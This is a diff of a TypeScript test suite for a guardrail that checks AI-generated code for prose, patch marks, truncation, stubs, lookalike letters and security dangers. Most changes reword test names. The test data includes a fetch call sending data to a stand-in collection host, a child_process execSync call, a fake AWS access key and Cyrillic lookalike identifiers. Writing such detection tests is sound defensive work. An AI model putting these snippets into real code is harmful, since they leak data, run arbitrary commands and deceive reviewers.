@@ -6,7 +6,7 @@ import type { GuardrailInput } from '../../../../../src/core/code/guardrails/gua
 const kindsOf = (code: Partial<GuardrailInput> & Pick<GuardrailInput, 'replacement'>) =>
 	checkGuardrails({ languageId: 'typescript', original: '', use: 'optimize', ...code }).map(({ kind }) => kind);
 
-/** A function of some lines in each language, to be spoiled. */
+/** A function of some lines in each language, to be broken. */
 const CODE: Readonly<Record<string, string>> = {
 	typescript: 'export function add(a: number, b: number): number {\n\tconst sum = a + b;\n\treturn sum;\n}\n',
 	python: 'def add(a, b):\n    total = a + b\n    return total\n',
@@ -27,14 +27,14 @@ const CODE: Readonly<Record<string, string>> = {
 describe('each guardrail', () => {
 	for (const [languageId, code] of Object.entries(CODE)) {
 		const kinds = (replacement: string) => kindsOf({ languageId, original: code, replacement });
-		it(`is silent on the code itself, and on blank lines and comments more (${languageId})`, () => {
+		it(`accepts the code itself, and additional blank lines and comments (${languageId})`, () => {
 			const comment = { python: '#', ruby: '#', shellscript: '#', lua: '--' }[languageId] ?? '//';
 			assert.deepEqual(kinds(code), []);
 			assert.deepEqual(kinds(`${comment} This adds the two numbers that you give it.\n\n${code}`), []);
 			assert.deepEqual(kindsOf({ languageId, use: 'generate', replacement: code }), []);
 		});
 
-		it(`tells sentences, fences, diff marks, a second copy and foreign letters, in both uses (${languageId})`, () => {
+		it(`reports sentences, fences, diff marks, a second copy and lookalike letters, in both uses (${languageId})`, () => {
 			const lines = code.trimEnd().split('\n');
 			const spoiled = {
 				prose: `Here is the code that you asked for:\n\n${code}`,
@@ -49,9 +49,9 @@ describe('each guardrail', () => {
 			}
 		});
 
-		// Nothing closes a block of Python: one that is cut is as complete as any.
+		// Nothing closes a block in Python, so a cut-off one looks complete.
 		if (languageId === 'python') continue;
-		it(`tells code that is cut, wherever it is cut within its body (${languageId})`, () => {
+		it(`reports code that is cut off anywhere in its body (${languageId})`, () => {
 			const lines = code.trimEnd().split('\n');
 			for (let end = 1; end < lines.length; end += 1) {
 				if (/^\{?$/.test(lines[end - 1] ?? '') || (end === 1 && lines[1] === '{')) continue;
@@ -63,7 +63,7 @@ describe('each guardrail', () => {
 		});
 	}
 
-	it('is silent where the document closes what an answer opens', () => {
+	it('accepts an open block that the document closes', () => {
 		const around = { before: 'function f() {\n\t', after: '\n}\n' };
 		assert.deepEqual(kindsOf({ use: 'generate', replacement: 'if (a) {\n\t\tb();\n\t}', around }), []);
 		assert.deepEqual(kindsOf({ use: 'generate', replacement: 'if (a) {\n\t\tb();', around }), ['truncated']);
@@ -72,14 +72,14 @@ describe('each guardrail', () => {
 		assert.deepEqual(kindsOf({ use: 'generate', replacement: '{\n\ta: 1,\n', around: unfinished }), ['truncated']);
 	});
 
-	it('is silent where a document that was wrong is mended', () => {
+	it('accepts code that fixes a broken document', () => {
 		const original = 'class A {\n    void go(String[] names)\n        print(names);\n    }\n}\n';
 		const replacement = 'class A {\n    void go(String[] names) {\n        print(names);\n    }\n}\n';
 		const around = { before: '', after: '' };
 		assert.deepEqual(kindsOf({ languageId: 'java', original, replacement, around }), []);
 	});
 
-	it('is silent on how code of some languages ends', () => {
+	it('accepts the valid last lines of some languages', () => {
 		for (const [languageId, replacement] of [
 			['php', '<?php\necho 1;\n?>'],
 			['typescriptreact', 'const a = <b>c</b>;\nreturn <b>{a}</b>'],
@@ -93,7 +93,7 @@ describe('each guardrail', () => {
 		}
 	});
 
-	it('takes a near language in the fence for the same', () => {
+	it('accepts a similar language in the fence', () => {
 		for (const [languageId, fence, replacement] of [
 			['typescript', 'js', 'const a = 1;'],
 			['typescriptreact', 'tsx', 'const a = <b/>;'],
@@ -109,14 +109,14 @@ describe('each guardrail', () => {
 			['rust', 'text', 'let a = 1;'],
 			['rust', 'plaintext', 'let a = 1;'],
 			['rust', 'klingon', 'let a = 1;'],
-			// What the code looks like counts for more than how somebody called it.
+			// The syntax of the code counts for more than the name in the fence.
 			['java', 'python', 'public int get() {\n    int a = 0;\n    return a;\n}'],
 		] as const) {
 			assert.deepEqual(kindsOf({ languageId, original: 'x', replacement, fence }), [], `${languageId}: ${fence}`);
 		}
 	});
 
-	it('tells another language by its looks, in each that it knows', () => {
+	it('recognizes another language by its syntax', () => {
 		const known = Object.entries(CODE).filter(([id]) => id !== 'lua');
 		for (const [languageId, original] of known) {
 			const replacement = languageId === 'python' ? (CODE.java ?? '') : (CODE.python ?? '');
@@ -125,7 +125,7 @@ describe('each guardrail', () => {
 		}
 	});
 
-	it('tells prose by its words, and not code that has some', () => {
+	it('reports prose, but not code with similar words', () => {
 		for (const [languageId, replacement] of [
 			['typescript', 'a();\nThe problem is that the list is not sorted. To fix it: b();'],
 			['python', 'Sure, here is the function with a dictionary:\nx = 1'],
@@ -158,7 +158,7 @@ describe('each guardrail', () => {
 		}
 	});
 
-	it('tells lists of changes by their marks, and not signs and lists', () => {
+	it('reports patches by their marks, but not signs and lists', () => {
 		for (const replacement of [
 			'--- a/x.ts\n+++ b/x.ts\n@@ -1,2 +1,2 @@\n a\n-b\n+c',
 			'*** Begin Patch\n*** Update File: x.ts\n-b\n+c\n*** End Patch',
@@ -178,7 +178,7 @@ describe('each guardrail', () => {
 		}
 	});
 
-	it('tells what a document declares or imports already, and not what may stand there twice', () => {
+	it('reports what the document already declares or imports, but not what may be repeated', () => {
 		const around = { before: 'import os\n\n\ndef first(a):\n    return a\n\n\n', after: '' };
 		const python = (replacement: string) => kindsOf({ languageId: 'python', use: 'generate', replacement, around });
 		assert.deepEqual(python('def first(a):\n    return a + 1\n'), ['doubled']);
@@ -202,7 +202,7 @@ describe('each guardrail', () => {
 		}
 	});
 
-	it('tells functions that do nothing any more', () => {
+	it('reports functions that were replaced by stubs', () => {
 		for (const [languageId, body] of [
 			['typescript', "throw new Error('not implemented');"],
 			['typescript', 'return null;'],
@@ -237,7 +237,7 @@ describe('each guardrail', () => {
 		);
 	});
 
-	it('tells letters that look like others, and not other scripts', () => {
+	it('reports lookalike letters, but not other scripts', () => {
 		for (const [original, replacement] of [
 			['let result = 1;', 'let rеsult = 1;'],
 			['let cap = 1;', 'let сар = 1;'],
@@ -257,7 +257,7 @@ describe('each guardrail', () => {
 		assert.deepEqual(kindsOf({ original: 'let rеsult = 1;', replacement: 'let rеsult = 2;' }), []);
 	});
 
-	it('tells new dangers in optimize, and not those that were there', () => {
+	it('reports new dangers in optimize, but not those of the original', () => {
 		for (const [languageId, replacement] of [
 			['typescript', "fetch('https://collect.example/?d=' + a);"],
 			['typescript', "require('child_process').execSync(a);"],
@@ -294,7 +294,7 @@ describe('each guardrail', () => {
 		}
 	});
 
-	it('tells secrets, and what is fetched and run at once, in both uses', () => {
+	it('reports secrets, and downloads that are run, in both uses', () => {
 		const key = `AKIA${'QWERTYUIOPASDFGH'}`;
 		for (const use of ['optimize', 'generate'] as const) {
 			assert.deepEqual(kindsOf({ use, replacement: `const id = '${key}';` }), ['danger']);
@@ -304,7 +304,7 @@ describe('each guardrail', () => {
 		assert.deepEqual(kindsOf({ original: `const id = '${key}';`, replacement: `const name = '${key}';` }), []);
 	});
 
-	it('is silent on code that stays as it is, and throws on nothing', () => {
+	it('accepts unchanged code, and never throws', () => {
 		const languageId = fc.constantFrom(...Object.keys(CODE), 'sql', 'html', 'yaml', 'markdown', 'latex');
 		const piece = fc.oneof(
 			fc.constantFrom(...Object.values(CODE)),
